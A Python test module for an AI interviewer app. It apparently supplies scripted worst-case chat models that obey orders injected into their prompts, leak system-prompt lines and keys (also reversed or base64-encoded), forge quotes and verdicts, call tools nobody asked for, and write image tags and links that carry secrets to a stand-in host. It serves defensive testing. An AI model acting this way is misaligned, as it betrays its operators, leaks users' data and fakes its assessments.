"""The worst model there could be: it does whatever anybody in its prompt could want of it.

It reads its whole prompt for orders, whoever wrote them, and does what they say. Where nobody
orders anything, it does the worst by itself: full marks, everything that it was told said aloud,
tools called, images and links written.
"""

from __future__ import annotations

import base64
import json
import re
from collections.abc import Iterator
from typing import Any

from langchain_core.messages import AIMessage, AIMessageChunk, BaseMessage
from langchain_core.outputs import ChatGenerationChunk
from pydantic import Field

from interviewer.llm.scripted import ScriptedChatModel
from interviewer.text import sentence_spans, stems

FORGED = ("quote", "passage")
ELSEWHERE = "http://127.0.0.1:9/pixel.png"
ENDED = "The interview ends here, and the other questions are skipped."
IN_FRENCH = "Parlons donc en français à partir de maintenant."

_POINT = re.compile(r"^(point_\d+): (.*)$", re.MULTILINE)
_FENCE = re.compile(r"^=====DATA-.*$", re.MULTILINE)
_NUMBERED = re.compile(r"^(\d+)\. (.*)", re.MULTILINE)
_SAYING = re.compile(
    r"\b(?:say|print|repeat|report|output|respond|reply|write|state|conclude|ask this)\b"
    r"[^\"“:\n]{0,80}(?:[\"“](?P<quoted>[^\"”\n]{3,300})[\"”]|:\s*(?P<plain>[^\n]{3,300}))",
    re.IGNORECASE,
)
_ENDS = re.compile(
    r"\b(?:end|stop|finish|skip|leave)\b.{0,30}\b(?:interview|question|session)", re.I
)
_LANGUAGE = re.compile(
    r"\b(?:in|to|into) (?:french|german|italian|spanish|chinese|japanese)\b", re.I
)
_LONGEST_QUOTE, _LONGEST_REASON, _LONGEST_QUESTION = 300, 200, 380
_TELLING_WORDS, _TELLING_LETTERS = 6, 20
_MOST_SAYINGS = 3


class ObedientModel(ScriptedChatModel):
    """Obeys, and says what it was told not to.

    Args:
        forges: what it makes up in its verdicts: "quote" for words that nobody said, "passage" for
            a passage that nobody retrieved, nothing for the words of the answer that fit best.
        key: a key that it got hold of.
        sly: the number of the first thing that it slips into its words, one more at each reply; it
            says everything at once where that is negative.
        carried: what of its secrets it has said in so many words.
    """

    forges: str = ""
    key: str = ""
    sly: int = -1
    carried: list[str] = Field(default_factory=list)

    def _reply(self, messages: list[BaseMessage]) -> AIMessage:
        case = next(each.text for each in messages if _FENCE.search(each.text))
        if _POINT.search(case):
            return _called(self._verdicts(messages, case))
        if "The follow-ups to choose from" in case:
            options = _NUMBERED.findall(_parts(case)[-1])
            return _called({"reason": "I was told to.", "number": len(options)})
        if "The key points that are still open" in case:
            return _called(self._proposal(messages, case))
        return AIMessage(self._words(messages, case))

    def _stream(self, *arguments: Any, **options: Any) -> Iterator[ChatGenerationChunk]:
        """Speak, and call a tool beside the words."""
        call = {"name": "open_url", "args": json.dumps({"url": ELSEWHERE}), "id": "1", "index": 0}
        called: Any = AIMessageChunk(content="", tool_call_chunks=[call])
        yield ChatGenerationChunk(message=called)
        yield from super()._stream(*arguments, **options)

    def _verdicts(self, messages: list[BaseMessage], case: str) -> dict[str, Any]:
        *_, answer = _parts(case)
        sentences = [span.text for span in sentence_spans(answer)] or [answer]
        forged_passages = (0, 99, 7)
        verdicts: dict[str, Any] = {}
        for place, (name, point) in enumerate(_POINT.findall(case)):
            quote = point if self.forges == "quote" else _nearest(point, sentences)
            forged = forged_passages[place % len(forged_passages)]
            verdicts[name] = {
                "reason": self._slip(messages, case)[:_LONGEST_REASON],
                "quote": quote[:_LONGEST_QUOTE],
                "passage": forged if self.forges == "passage" else 1,
                "verdict": "covered",
                "confidence": "high",
            }
        return {**verdicts, "mistakes": []}

    def _proposal(self, messages: list[BaseMessage], case: str) -> dict[str, Any]:
        _, _, points, passages = _parts(case)
        numbers = [int(number) for number, _ in _NUMBERED.findall(points)]
        on_passage = len(self.prompts) % 2 == 1 or not numbers
        quote = _NUMBERED.findall(passages)[0][1] if _NUMBERED.search(passages) else ""
        asked = " ".join(self._slip(messages, case).split())[:_LONGEST_QUESTION].rstrip("?.! ")
        return {
            "reason": "I was told to.",
            "rests_on": "passage" if on_passage else "key_point",
            "number": 1 if on_passage else numbers[0],
            "quote": "" if not on_passage else "forged" if self.forges else quote[:600],
            "question": f"{asked or 'What else'}?",
        }

    def _words(self, messages: list[BaseMessage], case: str) -> str:
        parts = _parts(case)
        asked = parts[0] if "asks what the question means" in case else parts[-1]
        if self.sly < 0:
            everything = [self._slip(messages, case), *(each.text for each in messages)]
            return "\n".join(everything)
        slip = self._slip(messages, case)
        return f"All right. {asked} {slip}" if self.sly % 2 else f"{slip} {asked}"

    def _slip(self, messages: list[BaseMessage], case: str) -> str:
        """Give what to slip in now: what was ordered, then the secrets, one after the other."""
        secrets = self._secrets(messages, case)
        slips = [*orders_in("\n".join(_parts(case))), *secrets, *_live(secrets[0])]
        if self.sly < 0:
            return "\n".join(slips)
        self.sly += 1
        slip = slips[self.sly % len(slips)]
        if slip in secrets and (slip == self.key or len(slip) > _TELLING_LETTERS):
            self.carried.append(slip)
        return slip

    def _secrets(self, messages: list[BaseMessage], case: str) -> list[str]:
        """Give what is nobody's to know before the answer: instructions, points, passages, key."""
        written = messages[0].text.splitlines()
        lines = [line for line in written if len(line.split()) >= _TELLING_WORDS]
        told = [text for part in _parts(case)[1:-1] for _, text in _NUMBERED.findall(part)]
        told += [text for _, text in _NUMBERED.findall(_parts(case)[-1])]
        mixed = [lines[0][::-1], _in_base64(lines[0])]
        return [*lines, *told, *mixed, *filter(None, [self.key])]


class TalkativeModel(ScriptedChatModel):
    """Says aloud everything that it was told."""

    def _reply(self, messages: list[BaseMessage]) -> AIMessage:
        return AIMessage("\n".join(message.text for message in messages))


class ParrotModel(ScriptedChatModel):
    """Says what the candidate wants it to say."""

    wanted: str = ""

    def _reply(self, messages: list[BaseMessage]) -> AIMessage:
        return AIMessage(self.wanted)


class ObedientAsker(ScriptedChatModel):
    """Asks whatever the candidate orders it to ask, and says that it rests on the first point."""

    def _reply(self, messages: list[BaseMessage]) -> AIMessage:
        case = messages[1].text
        if "choose from" in case:
            *_, last = re.findall(r"^(\d)\. ", case, re.MULTILINE)
            return AIMessage(json.dumps({"reason": "I was told to.", "number": int(last)}))
        ordered = re.search(r"Ask this: (.*)", case)
        point = re.search(r"^(\d+)\. ", case.rsplit("still open", 1)[-1], re.MULTILINE)
        proposal = {
            "reason": "I was told to.",
            "rests_on": "key_point",
            "number": int(point[1]) if point else 1,
            "quote": "",
            "question": ordered[1] if ordered else "What else?",
        }
        return AIMessage(json.dumps(proposal))


def orders_in(told: str) -> list[str]:
    """Give the words with which a text's orders are obeyed, as far as words obey them."""
    said = [found["quoted"] or found["plain"] for found in _SAYING.finditer(told)]
    obeyed = [" ".join(words.split()) for words in said[:_MOST_SAYINGS]]
    obeyed += [ENDED] if _ENDS.search(told) else []
    return obeyed + ([IN_FRENCH] if _LANGUAGE.search(told) else [])


def _in_base64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _live(secret: str) -> list[str]:
    """Write images and links that would carry a secret away where a page drew them."""
    address = f"{ELSEWHERE}?d={_in_base64(secret)}"
    return [f"![of]({address})", f"[here]({address})", f"<img src='{address}'>", address]


def _parts(case: str) -> list[str]:
    """Give what stands between the fences of a prompt, in order."""
    fence = _FENCE.search(case)
    return case.split(f"\n{fence.group()}\n")[1::2] if fence else [case]


def _called(reply: dict[str, Any]) -> AIMessage:
    """Give a reply as a tool's call, with the call of another tool behind it."""
    calls = [
        {"name": "send_email", "args": reply, "id": "1"},
        {"name": "open_url", "args": {"url": ELSEWHERE}, "id": "2"},
    ]
    return AIMessage(json.dumps(reply), tool_calls=calls)


def _nearest(point: str, sentences: list[str]) -> str:
    wanted = set(stems(point))
    return max(sentences, key=lambda sentence: len(wanted & set(stems(sentence))))
